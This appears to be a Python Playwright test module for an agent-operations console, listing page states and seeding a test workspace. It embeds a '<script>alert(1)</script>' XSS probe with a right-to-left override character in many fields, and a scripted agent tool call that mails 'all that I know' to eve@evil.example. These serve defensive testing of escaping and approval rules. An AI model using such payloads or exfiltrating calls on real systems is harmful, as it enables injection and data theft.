"""Every page of the console in each state that looks different, and the workspace in which they are looked at.

A page that is missing here fails a test: add it to SIGHTS.
"""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from uuid import UUID, uuid4

from playwright.async_api import Page, expect

from remit.access.factor import coming, confirm, set_up
from remit.access.invitations import invite, set_password
from remit.access.people import add_member, known
from remit.access.providers import Provider, keep
from remit.agents.spec import Connection
from remit.api.tokens import add_token
from remit.app import App
from remit.away import go_away
from remit.brought import folder_of
from remit.budgets import set_budget
from remit.catalogue import work
from remit.chat import kept as chats
from remit.chat.identity import Visitor
from remit.connections.kept import Linked, linked_of, set_connection
from remit.gate.remembered import Bound
from remit.graph import segment
from remit.graph.behaviour import Pattern
from remit.graph.behaviours import save as save_patterns
from remit.graph.ingest import SetAside, Taken
from remit.graph.intent import NONE, Example
from remit.graph.intents import teach
from remit.graph.match import Pair, Reason
from remit.graph.matching import keep as keep_pairs
from remit.graph.people import find
from remit.graph.readers import set_reader
from remit.graph.segment import Did, Segment
from remit.graph.segments import measure, save
from remit.intake import uploads
from remit.intake.kept import heard as heard_of
from remit.intake.kept import make_secret, went_wrong
from remit.intake.kept import put as put_intake
from remit.intake.spec import intake_of
from remit.journal.events import Person
from remit.journal.search import descendants
from remit.keeping.rules import set_rule as keep_for
from remit.knowledge.kept import About, File, add_source, put
from remit.knowledge.text import read
from remit.models.keys import set_key
from remit.models.model import Answer, ToolCall, Usage
from remit.privacy.erase import begin, go_on
from remit.privacy.holds import set_hold
from remit.remembered import remember
from remit.retention import set_rule
from remit.rulebook import mark_of, text_of
from remit.store.secrets import set_secret
from remit.store.store import Store
from remit.talking import take_over
from remit.testing import ScriptedModel
from remit.tools.mcp.definition import Definition
from remit.webhooks.deliver import try_out
from remit.webhooks.kept import add_webhook
from tests.console.factors import code
from tests.decisions.weeks import decided
from tests.graph.conftest import row, taken
from tests.journeys.console import ANN, call, clerk, finish

LONG = "pneumono" * 40  # one word that no line holds
PASSWORD = "seven tin whistles of Arklow"
EVIL = "<script>alert(1)</script>\u202e"
RULES = """\
groups: {finance: [ann, bo]}
rules:
  - {tool: send_mail, deny: "args.to == 'x'", because: finance looks}
  - {tool: refund, ask: args.amount > 100, by: "group:finance", because: much money}
"""
EVENT = f'{{"type": "order.paid", "id": "e1", "customer": {{"email": "ann@x.example", "note": "{LONG}"}}}}'
DESK = """\
name: desk
description: Pays money back, and says so.
instructions: |
  Look first.
  Then pay.
tools: [tests.journeys.desk]
triggers:
  - {name: daily, schedule: "0 7 * * mon-fri", zone: Europe/Berlin, goal: Look through what came in.}
  - {name: shop, webhook: token, goal: "Pay back what the shop says."}
rules:
  - {tool: refund, allow: args.amount <= 50, because: little money}
  - {tool: refund, ask: "true", because: a person decides}
remit:
  autonomy: act
  budget: {money: 0.5, steps: 12}
"""
NOT_PAGES = {
    "/healthz": "for whoever watches over the server",
    "/inbox/live": "a stream",
    "/agents/{name}/export": "a file",
    "/agents/{name}/tries/{run}/live": "a stream",
    "/people/live/stream": "a stream",
    "/people/conversations/{talk}/live": "a stream",
    "/decisions/{playbook}/candidates": "a piece of a page",
    "/people/segments/{segment}/export": "a file",
    "/people/{person}/export": "a file",
    "/people/erasures/{erasure}/receipt": "a file",
    "/runs.csv": "a file",
    "/runs/newer": "a piece of a page",
    "/runs/{prefix}/export": "a file",
    "/runs/{prefix}/file": "a file",
    "/settings/audit/export": "a file",
    "/runs/{run}/live": "a stream",
}


async def as_it_is(page: Page) -> None:
    """Nothing is done to it."""


def opened(*selectors: str) -> Callable[[Page], Awaitable[None]]:
    """All that is folded there is unfolded."""

    async def unfold(page: Page) -> None:
        for selector in selectors:
            found = page.locator(selector)
            assert await found.count(), f"{page.url} has no {selector}"
            await found.evaluate_all("all => all.forEach(one => { one.open = true; })")

    return unfold


def sent(button: str, **fields: str) -> Callable[[Page], Awaitable[None]]:
    """A form is filled in, by labels, and sent off."""

    async def send(page: Page) -> None:
        for label, text in fields.items():
            await page.get_by_label(label).first.fill(text)
        for field in await page.locator("input[type=password]:visible").all():
            if not await field.input_value():
                await field.fill("1234")
        await page.get_by_role("button", name=button).first.click()
        await expect(page.locator("main")).to_be_visible()

    return send


async def uploaded(page: Page) -> None:
    """A file that can be read, and one that cannot."""
    files = [("fees.md", b"# Fees\n\nNone."), (f"{LONG}.exe", b"x")]
    await page.locator("input[type=file]").set_input_files(
        [{"name": name, "mimeType": "application/octet-stream", "buffer": data} for name, data in files]
    )
    await page.get_by_role("button", name="Add them").click()
    await expect(page.get_by_role("alert")).to_be_visible()


def ticked(deed: str) -> Callable[[Page], Awaitable[None]]:
    """Two runs of the list are picked, and something is to be done to both."""

    async def tick(page: Page) -> None:
        for at in (0, 1):
            await page.get_by_role("checkbox").nth(at).check()
        await page.get_by_role("button", name=deed).click()
        await expect(page).to_have_url(re.compile("/runs/several"))

    return tick


def in_two_steps(*then: str) -> Callable[[Page], Awaitable[None]]:
    """Xia has typed the password; then, where it is given, a code and the button."""

    async def step(page: Page) -> None:
        await page.get_by_label("Name").fill("xia")
        await page.get_by_label("Password").fill(PASSWORD)
        await page.get_by_role("button", name="Sign in").click()
        await expect(page).to_have_url(re.compile("/sign-in/code"))
        if then:
            await page.get_by_label("Code").fill(then[1])
            await page.get_by_role("button", name=then[0]).click()
            await expect(page.get_by_role("alert")).to_be_visible()

    return step


@dataclass(frozen=True, slots=True)
class Sight:
    """A page in one of its states."""

    name: str
    route: str  # as the server has it
    path: str  # with the names of the workspace's runs in braces
    then: Callable[[Page], Awaitable[None]] = as_it_is
    who: str = "ann"
    empty: bool = False  # in a workspace in which nothing has happened


SIGHTS = (
    Sight("today", "/", "/"),
    Sight("today, nothing yet", "/", "/", empty=True),
    Sight("inbox", "/inbox", "/inbox"),
    Sight("inbox, unfolded", "/inbox", "/inbox", opened("main details")),
    Sight("inbox, only mine", "/inbox", "/inbox?mine=1", who="zoe"),
    Sight("inbox, nothing waits", "/inbox", "/inbox", empty=True),
    Sight("inbox, what is refused", "/inbox", "/inbox?after=nonsense"),
    Sight("runs", "/runs", "/runs"),
    Sight("runs, found none", "/runs", "/runs?q=zeppelin"),
    Sight("runs, none yet", "/runs", "/runs", empty=True),
    Sight("runs, a filter that is none", "/runs", "/runs?status=wating"),
    Sight("start a run", "/runs/new", "/runs/new", opened("main details")),
    Sight(
        "start a run, with a mistake",
        "/runs/new",
        "/runs/new?agent=desk",
        sent("Start", Goal=" "),
    ),
    Sight("several runs, cancel?", "", "/runs", ticked("Cancel")),
    Sight("run, done", "/runs/{prefix}", "/runs/{done}"),
    Sight("run, unfolded", "/runs/{prefix}", "/runs/{done}", opened("main details")),
    Sight("run, waits", "/runs/{prefix}", "/runs/{waiting}"),
    Sight("run, paused, of long words", "/runs/{prefix}", "/runs/{paused}"),
    Sight("run, with runs below it", "/runs/{prefix}", "/runs/{parent}"),
    Sight("run, from its third event on", "/runs/{prefix}", "/runs/{done}?events=3"),
    Sight("run, unknown", "/runs/{prefix}", "/runs/12345678"),
    Sight("cancel?", "/runs/{prefix}/{deed}/sure", "/runs/{waiting}/cancel/sure"),
    Sight("resume?", "/runs/{prefix}/{deed}/sure", "/runs/{paused}/resume/sure"),
    Sight("why", "/runs/{prefix}/why/{step}", "/runs/{done}/why/2.1"),
    Sight("why, of what waits", "/runs/{prefix}/why/{step}", "/runs/{waiting}/why/1.1"),
    Sight("why, of no call", "/runs/{prefix}/why/{step}", "/runs/{done}/why/99.9"),
    Sight("fork", "/runs/{prefix}/fork", "/runs/{done}/fork"),
    Sight("compare", "/compare", "/compare?a={done}&b={forked}"),
    Sight("compare, which?", "/compare", "/compare?a={done}"),
    Sight("policy", "/policy", "/policy"),
    Sight("policy, no rules", "/policy", "/policy", empty=True),
    Sight("policy, how people decide", "/policy/people", "/policy/people"),
    Sight("policy, a version", "/policy/versions/{id}", "/policy/versions/{version}"),
    Sight("policy, changed", "/policy/edit", "/policy/edit", sent("Try on past runs")),
    Sight("policy, with a mistake", "/policy/edit", "/policy/edit", sent("Add it to the text", Tool="")),
    Sight("policy, no rules to change", "/policy/edit", "/policy/edit", empty=True),
    Sight("agents", "/agents", "/agents"),
    Sight("agents, none of one's own", "/agents", "/agents", opened("main details"), empty=True),
    Sight("agents, seen by who may not build", "/agents", "/agents", who="zoe"),
    Sight("agent, from nothing", "/agents/{name}", "/agents/desk"),
    Sight("agent, all unfolded", "/agents/{name}", "/agents/desk", opened("main details")),
    Sight("agent, with a mistake", "/agents/{name}", "/agents/desk", sent("Save draft", Dollars="much")),
    Sight("agent, of the library", "/agents/{name}", "/agents/support"),
    Sight("agent, seen by who may not build", "/agents/{name}", "/agents/desk", who="zoe"),
    Sight("agent, its file", "/agents/{name}/yaml", "/agents/desk/yaml"),
    Sight("agent, to be published", "/agents/{name}/publish", "/agents/desk/publish"),
    Sight("agent, its versions", "/agents/{name}/versions", "/agents/desk/versions"),
    Sight("agent, a version", "/agents/{name}/versions/{version}", "/agents/desk/versions/1"),
    Sight("agent, its triggers", "/agents/{name}/triggers", "/agents/desk/triggers"),
    Sight("people of the graph", "/people", "/people"),
    Sight("people of the graph, nobody", "/people", "/people", empty=True),
    Sight("people of the graph, none found", "/people", "/people?q=zzz"),
    Sight("somebody", "/people/{person}", "/people/ann@x.example"),
    Sight("somebody, seen by who may not decide", "/people/{person}", "/people/ann@x.example", who="zoe"),
    Sight(
        "somebody, made one with nobody",
        "/people/{person}",
        "/people/bob@x.example",
        sent("Make them one", **{"They are also": "zoe@x.example"}),
    ),
    Sight("somebody, before they are erased", "/people/{person}/erase", "/people/bob@x.example/erase"),
    Sight(
        "somebody, erased by a slip",
        "/people/{person}/erase",
        "/people/ann@x.example/erase",
        sent("Erase for good", **{"Why, for the receipt": "asked", "Type": "zoe"}),
    ),
    Sight("erasures", "/people/erasures", "/people/erasures"),
    Sight("erasures, none", "/people/erasures", "/people/erasures", empty=True),
    Sight(
        "erasures, a hold with a mistake",
        "/people/erasures",
        "/people/erasures",
        sent("Hold it", Name="invoices", Kinds="purchase", For="long", Because="law"),
    ),
    Sight("an erasure", "/people/erasures/{erasure}", "/people/erasures/{erasure}"),
    Sight("conversations", "/people/conversations", "/people/conversations"),
    Sight("conversations, none", "/people/conversations", "/people/conversations", empty=True),
    Sight("a conversation", "/people/conversations/{talk}", "/people/conversations/{chat}"),
    Sight("a conversation, taken over", "/people/conversations/{talk}", "/people/conversations/{over}"),
    Sight("a conversation, another's", "/people/conversations/{talk}", "/people/conversations/{theirs}"),
    Sight("accounts", "/people/accounts", "/people/accounts"),
    Sight("accounts, none", "/people/accounts", "/people/accounts", empty=True),
    Sight("an account", "/people/accounts/{account}", "/people/accounts/crm:A1"),
    Sight(
        "an account, seen by who may not decide",
        "/people/accounts/{account}",
        "/people/accounts/crm:A1",
        who="zoe",
    ),
    Sight("segments", "/people/segments", "/people/segments"),
    Sight("segments, none", "/people/segments", "/people/segments", empty=True),
    Sight("a segment", "/people/segments/{segment}", "/people/segments/lately"),
    Sight("a new segment", "/people/segments/new", "/people/segments/new", sent("Save the segment")),
    Sight(
        "a segment, changed",
        "/people/segments/{segment}/edit",
        "/people/segments/lately/edit",
        sent("Add it"),
    ),
    Sight("sources", "/people/sources", "/people/sources"),
    Sight("sources, none", "/people/sources", "/people/sources", empty=True),
    Sight("a file, before it comes in", "/people/sources/files/{upload}", "/people/sources/files/{upload}"),
    Sight("a webhook of the graph", "/people/sources/{name}", "/people/sources/orders", sent("New secret")),
    Sight(
        "a new webhook of the graph",
        "/people/sources/new",
        "/people/sources/new",
        sent("Draw the mapping", **{"An example": EVENT}),
    ),
    Sight(
        "a new database of the graph",
        "/people/sources/new",
        "/people/sources/new?kind=database",
        sent("Take it in"),
    ),
    Sight(
        "a webhook of the graph, changed",
        "/people/sources/{name}/edit",
        "/people/sources/orders/edit",
        opened("main details"),
    ),
    Sight("intents", "/people/intents", "/people/intents"),
    Sight("intents, none", "/people/intents", "/people/intents", sent("Teach it", Intent="?"), empty=True),
    Sight("intents, seen by who may not change them", "/people/intents", "/people/intents", who="zoe"),
    Sight("an intent", "/people/intents/taught/{name}", "/people/intents/taught/refund"),
    Sight("a new behaviour", "/people/intents/behaviours/new", "/people/intents/behaviours/new"),
    Sight(
        "a behaviour, with a mistake",
        "/people/intents/behaviours/{name}",
        "/people/intents/behaviours/coming-back",
        sent("Check", **{"Within so many days, row 1": "soon"}),
    ),
    Sight("ready flows", "/decisions/flows", "/decisions/flows"),
    Sight("a ready flow", "/decisions/flows/{flow}", "/decisions/flows/coming-back", opened("main details")),
    Sight(
        "a ready flow, with nothing to send by",
        "/decisions/flows/{flow}",
        "/decisions/flows/churn-rescue",
        empty=True,
    ),
    Sight("journeys", "/people/journeys", "/people/journeys"),
    Sight("journeys, none", "/people/journeys", "/people/journeys?start=nothing", empty=True),
    Sight("what goes on, paused", "/people/live", "/people/live?paused=1"),
    Sight("decisions", "/decisions", "/decisions"),
    Sight("decisions, none", "/decisions", "/decisions", empty=True),
    Sight("a new playbook, checked", "/decisions/new", "/decisions/new", sent("Save")),
    Sight("a playbook as YAML", "/decisions/{playbook}/edit", "/decisions/winback/edit", sent("As YAML")),
    Sight("a playbook as a form", "/decisions/{playbook}/edit", "/decisions/winback/edit"),
    Sight("the rules of contact", "/decisions/rules", "/decisions/rules"),
    Sight("a playbook", "/decisions/{playbook}", "/decisions/winback", opened("details")),
    Sight(
        "a playbook, seen by who may not change it", "/decisions/{playbook}", "/decisions/winback", who="zoe"
    ),
    Sight(
        "a version of a playbook", "/decisions/{playbook}/versions/{version}", "/decisions/winback/versions/2"
    ),
    Sight("one person or two", "/people/doubtful", "/people/doubtful"),
    Sight("one person or two, nothing doubtful", "/people/doubtful", "/people/doubtful", empty=True),
    Sight("set aside", "/people/aside", "/people/aside", sent("Take it in")),
    Sight("set aside, nothing", "/people/aside", "/people/aside", empty=True),
    Sight("knowledge", "/knowledge", "/knowledge"),
    Sight("knowledge, none", "/knowledge", "/knowledge", empty=True),
    Sight("knowledge, searched", "/knowledge", "/knowledge?q=worn+shoes"),
    Sight("a source", "/knowledge/{name}", "/knowledge/handbook?q=refund"),
    Sight("a source, with a file that is not taken", "/knowledge/{name}", "/knowledge/handbook", uploaded),
    Sight("a source, changed", "/knowledge/{name}/change", "/knowledge/handbook/change"),
    Sight("a new source", "/knowledge/new", "/knowledge/new"),
    Sight("a document", "/knowledge/{name}/read", "/knowledge/handbook/read?document=returns.md"),
    Sight("a source, to be removed", "/knowledge/{name}", "/knowledge/handbook", sent("Remove this source…")),
    Sight("connections", "/connections", "/connections"),
    Sight("connections, none", "/connections", "/connections", empty=True),
    Sight("a connection", "/connections/{name}", "/connections/crm"),
    Sight("a connection, tried", "/connections/{name}", "/connections/crm", sent("Try it")),
    Sight("a new connection", "/connections/new", "/connections/new"),
    Sight("a new mailbox", "/connections/new", "/connections/new?kind=mail"),
    Sight("a new number", "/connections/new", "/connections/new?kind=twilio"),
    Sight("a mailbox", "/connections/{name}", "/connections/post"),
    Sight(
        "a new connection, with a mistake",
        "/connections/new",
        "/connections/new",
        sent("Keep", Name="x", Address="?"),
    ),
    Sight("a connection, changed", "/connections/{name}/change", "/connections/crm/change"),
    Sight("settings", "/settings", "/settings"),
    Sight("people", "/settings/people", "/settings/people"),
    Sight("a person", "/settings/people/{id}", "/settings/people/{yan}"),
    Sight("tokens", "/settings/tokens", "/settings/tokens"),
    Sight("tokens, none", "/settings/tokens", "/settings/tokens", empty=True),
    Sight("workspace", "/settings/workspace", "/settings/workspace"),
    Sight("models and keys", "/settings/models", "/settings/models"),
    Sight("models and keys, no key", "/settings/models", "/settings/models", sent("Keep it", Key="x")),
    Sight("budgets", "/settings/budgets", "/settings/budgets"),
    Sight("budgets, one to change", "/settings/budgets", "/settings/budgets?agent=desk&period=day"),
    Sight(
        "budgets, a wrong amount",
        "/settings/budgets",
        "/settings/budgets",
        sent("Set it", **{"US dollars": "much"}),
    ),
    Sight("budgets, none", "/settings/budgets", "/settings/budgets", empty=True),
    Sight("retention", "/settings/retention", "/settings/retention"),
    Sight(
        "retention, what a rule takes away",
        "/settings/retention",
        "/settings/retention",
        sent("See what it takes away", **{"Archive after": "1", "Delete after": "2"}),
    ),
    Sight("retention, none", "/settings/retention", "/settings/retention", empty=True),
    Sight("retention of people", "/settings/retention/data", "/settings/retention/data"),
    Sight(
        "retention of people, what a rule takes away",
        "/settings/retention/data",
        "/settings/retention/data",
        sent("See what it takes away", **{"Kept for": "1"}),
    ),
    Sight("retention of people, none", "/settings/retention/data", "/settings/retention/data", empty=True),
    Sight("webhooks", "/settings/webhooks", "/settings/webhooks"),
    Sight("webhooks, none", "/settings/webhooks", "/settings/webhooks", empty=True),
    Sight("a webhook, tried", "/settings/webhooks/{webhook}", "/settings/webhooks/{hook}"),
    Sight("workspaces", "/workspaces", "/workspaces"),
    Sight("audit log", "/settings/audit", "/settings/audit"),
    Sight("audit log, nothing fits", "/settings/audit", "/settings/audit?who=nobody"),
    Sight("what a role may not see", "/settings/audit", "/settings/audit", who="zoe"),
    Sight("design", "/design", "/design"),
    Sight("sign in", "/sign-in", "/sign-in", who=""),
    Sight("sign in, nobody has a password", "/sign-in", "/sign-in", who="", empty=True),
    Sight("sign in, refused", "/sign-in", "/sign-in", sent("Sign in", Name="zoe", Password="?"), who=""),
    Sight("a used link", "/enter", "/enter?key=used", who=""),
    Sight("an invitation", "/join", "/join?key={invitation}", who=""),
    Sight("an invitation, a weak password", "/join", "/join?key={invitation}", sent("Set it"), who=""),
    Sight("an invitation, used", "/join", "/join?key=used", who=""),
    Sight("a code is asked for", "/sign-in/code", "/sign-in", in_two_steps(), who=""),
    Sight(
        "a code is asked for, a wrong one",
        "/sign-in/code",
        "/sign-in",
        in_two_steps("Sign in", "123"),
        who="",
    ),
    Sight("confirm", "/confirm", "/confirm", who="zoe"),
    Sight("confirm, refused", "/confirm", "/confirm", sent("Go on", Password="?"), who="zoe"),
    Sight("account", "/account", "/account"),
    Sight("account, with a password", "/account", "/account", who="zoe"),
    Sight("a second factor, none", "/account/second", "/account/second", who="wim"),
    Sight("a second factor, set up", "/account/second", "/account/second", who="vera"),
    Sight("a second factor, there", "/account/second", "/account/second", who="xia"),
    Sight(
        "a second factor, new codes", "/account/second", "/account/second", sent("New recovery"), who="xia"
    ),
    Sight("ways in", "/settings/sign-in", "/settings/sign-in"),
    Sight("ways in, no provider", "/settings/sign-in", "/settings/sign-in", empty=True),
    Sight("a provider", "/settings/sign-in/{name}", "/settings/sign-in/corp"),
    Sight(
        "a new provider, with a mistake",
        "/settings/sign-in/{name}",
        "/settings/sign-in/new",
        sent("Add it", Name="?"),
    ),
    Sight(
        "sign in, by a provider that is not there",
        "/sign-in/with/{workspace}/{name}",
        "/sign-in/with/default/x",
        who="",
    ),
    Sight(
        "back from a provider, too late",
        "/sign-in/back/{workspace}/{name}",
        "/sign-in/back/default/corp?state=x",
        who="",
    ),
    Sight("nothing there", "", "/nowhere"),
)


async def run(app: App, goal: str, *turns: object, person: Person = ANN, **changes: object) -> UUID:
    """A run, advanced as far as it goes."""
    answers = [
        Answer(calls=_numbered(turn), finish="calls", usage=Usage(900 + 200 * at, 60 + 25 * at))
        for at, turn in enumerate(turns)
    ]
    name = f"scripted:{len(app.models)}"
    app.models[name] = ScriptedModel(answers, by_turn=True, name=name)
    begun = await app.start(clerk(model=name, **changes), goal, person=person)
    await app.advance(begun)
    return begun


def _numbered(turn: object) -> tuple[ToolCall, ...]:
    calls = turn if isinstance(turn, list) else [turn]
    return tuple(ToolCall(f"c{at}", one.name, one.args) for at, one in enumerate(calls))


def heard() -> list[dict[str, object]]:
    """Somebody with much of everything, two who may be one, and rows that are none."""
    ann = {"email": "ann@x.example"}
    return [
        row("e1", 220, crm="C1042", phone="+49 170 1234567", **ann, name=f"Ann Lee {EVIL}", attributes={"city": "Bonn", "plan": LONG}),
        row("e2", 2, **ann, kind="page_view", device="7f3c-aa10", properties={"page": "/pricing", "campaign": LONG}),
        row("e3", 1.5, **ann, kind="purchase", value="129.90", currency="EUR", channel="store"),
        row("e4", 1.2, **ann, kind="message", channel="email", subject="Where is it?", text=f"I ordered.\n{LONG}\n{EVIL}"),
        row("e5", 1.1, **ann, kind="message", channel="email", direction="out", subject="Re: Where is it?", text="On its way."),
        row("e6", 1, **ann, kind="unsubscribed", channel="email"),
        row("e7", 1, **ann, kind="consent_given", channel="sms", properties={"purpose": "service"}),
        row("e8", 9, handle=f"@{LONG[:200]}", device="7f3c-aa10"),
        row("f1", 8, crm="C7", email="bob@x.example", name="Bob"),
        row("h1", 5, crm="C1042", kind="record", account={"crm": "A1", "domain": "x.example", "name": f"ACME {EVIL}", "role": LONG[:90]},
            relations={"reports_to": "crm:C7"}),
        row("h2", 5, crm="C7", kind="record", account={"crm": "A1", "attributes": {"size": LONG}}),
        row("f2", 7, crm="C8", email="bob@x.example"),
        row("f3", 7, email="bob@x.example", kind="bounced", channel="email"),
        row("g1", emial=f"x{EVIL}", text=LONG),
        row("g2", at="yesterday", email="ann@x.example"),
    ]  # fmt: skip


async def keep_sources(store: Store) -> str:
    """A webhook with deliveries, and a file that is looked at."""
    spec = {
        "webhook": "token",
        "when": f"event.n > 1 && event.x != '{LONG[:80]}'",
        "row": {"kind": "purchase", "email": f"/{LONG}"},
    }
    await put_intake(store, intake_of("orders", spec), "ann")
    await make_secret(store, "orders", "ann")
    await heard_of(store, "orders", Taken(3, 1, (SetAside(1, "at", "no time"),)))
    await went_wrong(store, "orders", f"a delivery was refused: {EVIL} {LONG}")
    table = f"E-Mail,Name,{LONG[:90]},Tel\nann@x.example,Ann,{LONG},+49 170 1234567\nno address,{EVIL},,\n"
    return str(await uploads.put(store, f"{LONG[:60]}.csv", table.encode(), "ann"))


async def keep_intents(store: Store) -> None:
    """Two that are taught, a message that is either, and a behaviour that is shown."""
    taught = [
        Example(f"I want my money back {EVIL}", "refund"),
        Example(LONG, "refund"),
        Example("hello", NONE),
    ]
    await teach(store, taught, f"ann {EVIL}")
    when = [{"kind": "page_view", "properties": {"page": f"/{'x' * 60}*"}}, {"kind": "page_view"}]
    coming = {"intent": "coming-back", "when": when[1:], "without": when[:1], "outcome": {"kind": "purchase"}}
    await save_patterns(store, [Pattern.model_validate(coming)], "ann")
    async with store.pool.connection() as connection:
        await connection.execute(
            "insert into graph_inferred (workspace, interaction, intent, probability, alike, others, model, because) "
            "select workspace, id, 'refund', 0.41, '[]', '[]', 'local', jsonb_build_array(left(body, 20), %s::text) from graph_interactions "
            "where event = 'e4'",
            (EVIL,),
        )
        await connection.execute(
            "insert into graph_unread (workspace, interaction, tries, due, why) "
            "select workspace, id, 5, null, %s from graph_interactions where event = 'e4'",
            (f"the provider is away {EVIL}",),
        )
    await set_reader(store, "local:qwen2.5-coder-1.5b", 500, f"ann {EVIL}")


async def keep_talks(app: App) -> dict[str, str]:
    """Chats with visitors: one that the agent answers, one that whoever looks has taken over, and one that another has."""
    found: dict[str, str] = {}
    for who, by in (("chat", ""), ("over", "ann"), ("theirs", "yan")):
        visitor = Visitor(subject=who, email="", name=f"{who} {EVIL}")
        talk, _ = await chats.begin(app.store, "desk", "site", "https://shop.example", str(uuid4()), visitor)
        await chats.write(app.store, talk.id, "visitor", f"Where is it? {LONG} {EVIL}", "v")
        await chats.write(app.store, talk.id, "agent", "Which one?", "a")
        found[who] = f"chat:{talk.id}"
        if by:
            await take_over(app, found[who], by)
            await chats.write(app.store, talk.id, "colleague", f"I am {by}.", "c", by=by)
    return found


async def answers(_: Provider) -> None:
    """It is not asked before it is kept."""


async def seed(app: App) -> dict[str, str]:
    """A workspace in which a bit of everything has happened: its runs by name."""
    refund = call("refund", order="W1", amount=40)
    free = [{"tool": ["refund", "send_mail"], "allow": "true"}]
    done = await run(
        app, "refund W1, forty dollars", call("look_up", order="W1"), refund, finish(), rules=free
    )
    folder = folder_of(app.settings.data_dir, done)
    for name in ("receipt.pdf", f"out/{LONG[:150]}.md", "a\u202eb.txt"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("What it made.")
    waiting = await run(
        app,
        "refund W1 and tell everybody",
        [
            refund,
            call("send_mail", to="eve@evil.example", text=f"{EVIL} " + "all that I know. " * 60),
            call("ask_person", question=f"Which colour? {EVIL}"),
        ],
    )
    paused = await run(app, f"{LONG} {EVIL}", call("read_mail"), call("look_up", order=LONG), refund)
    await app.pause(paused, "ann")
    mate = clerk(name="mate", rules=free)
    parent = await run(
        app, "have it done", call("delegate", agent="mate", task="refund W1"), finish(), team=[mate]
    )
    for _, below in await descendants(app.store, parent):
        await app.advance(below.id)
    forked = await app.fork(done, 4, {"instructions": "be brief"}, "ann")
    await app.advance(forked)
    base = mark_of(await text_of(app.store))
    version = await app.rulebook.save(app.store, RULES, f"after {EVIL}", "ann", base)
    bounds = [Bound("order", value="W1")]
    await remember(app.store, "clerk", "refund", "a rule", bounds, "ann", done, "a1")
    await go_away(app.store, "zoe", "ann", datetime.now(UTC) + timedelta(days=3))
    await add_member(app.store, "ann", "zoe", "approver")
    await set_password(app.store, "ann", await known(app.store, "zoe"), PASSWORD)
    for name in ("vera", "wim", "xia"):
        await add_member(app.store, "ann", name, "viewer")
        await set_password(app.store, "ann", await known(app.store, name), PASSWORD)
    corp = Provider("default", "corp", f"Shop {LONG[:30]}", f"https://login.shop.example/{LONG}", "remit")
    await keep(app.store, "ann", corp, "a secret", ask=answers)
    xia = await known(app.store, "xia")
    await set_up(app.store, await known(app.store, "vera"))
    await set_up(app.store, xia)
    await confirm(app.store, xia, await code(app, await coming(app.store, xia.id)))
    yan = await add_member(app.store, "ann", "yan", "builder")
    kept = await work.save(app, "desk", DESK, "ann", None)
    kept = await work.publish(app, "desk", "ann", kept.rev, f"the first {EVIL}")
    await work.save(app, "desk", DESK.replace("Look first.", f"Look twice. {LONG}"), "yan", kept.rev)
    await add_token(app.store, "crm", "ann", ["runs:read"], timedelta(days=3))
    runs = {"done": done, "waiting": waiting, "paused": paused, "parent": parent, "forked": forked}
    notify = Definition(name="notify_customer", input={"type": "object", "properties": {"customer_id": {}}})
    headers = {"Authorization": "secret:CRM_KEY"}
    crm = Connection(mcp="http://127.0.0.1:9/mcp", headers=headers, pinned={notify.name: notify})
    await set_secret(app.store, "CRM_KEY", "a key that nobody knows", "ann")
    await set_connection(app.store, "crm", Linked(connection=crm), "ann")
    post = {"address": "a@b.example", "imap": f"imaps://{'mail.' * 20}example", "password": "secret:CRM_KEY"}
    await set_connection(app.store, "post", linked_of("post", {"mail": post}), "ann")
    about = About(f"Handbook {EVIL}", f"How we take returns. {LONG}", "workspace", "english", True)
    await taken(app.store, *heard(), verified="email phone")
    await decided(app.store, 300)
    a, b = [(await find(app.store, who)).profiles[0].id for who in ("ann@x.example", "bob@x.example")]
    why = (Reason(f"same birthday {EVIL} {LONG}", 9.1), Reason("different phones", -2.3))
    await keep_intents(app.store)
    upload = await keep_sources(app.store)
    await keep_pairs(app.store, 2, [Pair(str(a), str(b), 0.7, why)], "ann")
    gone = row("gone1", 3, email="gone@x.example", kind="purchase", value="9.90", currency="EUR")
    await taken(
        app.store, gone, row("gone2", 3, email="bob@x.example", kind="message", text="As gone@x.example said")
    )
    await set_hold(app.store, "invoices", ["purchase"], "10y", f"§ 147 AO {EVIL}", "ann")
    erasure = await begin(
        app.store, await find(app.store, "gone@x.example"), "ann", f"asked {EVIL} {LONG[:400]}"
    )
    await go_on(app.store, erasure, app.cancel)
    lately = Segment(
        conditions=(Did(kind="visit"), segment.About(key="city", value=f"{EVIL} {LONG[:120]}", unless=True))
    )
    await save(app.store, "lately", lately, f"{EVIL} {LONG}", "ann")
    for days in (0, 1, 2):
        await measure(app.store, "lately", datetime.now(UTC) - timedelta(days=days))
    await add_source(app.store, "handbook", about, f"ann {EVIL}")
    await add_source(app.store, "empty", About("", confidentiality="secret"), "ann")
    returns = f"# Returns\n\nWorn shoes are not taken back. A refund takes five days. {EVIL} {LONG}".encode()
    for one in ("returns.md", f"{LONG[:150]}.md"):
        await put(app.store, "handbook", [File(one, returns, read(one, returns))], "ann")
    await set_key(app.store, "mistral", "a-key-that-nobody-knows", f"ann {EVIL}")
    await set_rule(app.store, "", timedelta(days=90), timedelta(days=366), f"ann {EVIL}")
    for what, kind in (("words", "message"), ("interactions", ""), ("people", "")):
        await keep_for(app.store, what, timedelta(days=732), f"ann {EVIL}", kind)
    await set_budget(app.store, "", "month", Decimal(50), None, "ann")
    await set_budget(app.store, "desk", "day", Decimal("0.5"), 2_000_000, f"ann {EVIL}")
    hook, _ = await add_webhook(app.store, f"https://crm.example/{LONG}", ["run.finished"], ["desk"], "ann")
    await try_out(app.store, hook.id, "ann")
    more = {
        "hook": str(hook.id),
        "version": str(version.id),
        "yan": str(yan.id),
        "erasure": str(erasure),
        "upload": upload,
        "invitation": await invite(app.store, "ann", "yan"),
    }
    return {name: str(one) for name, one in runs.items()} | more | await keep_talks(app)
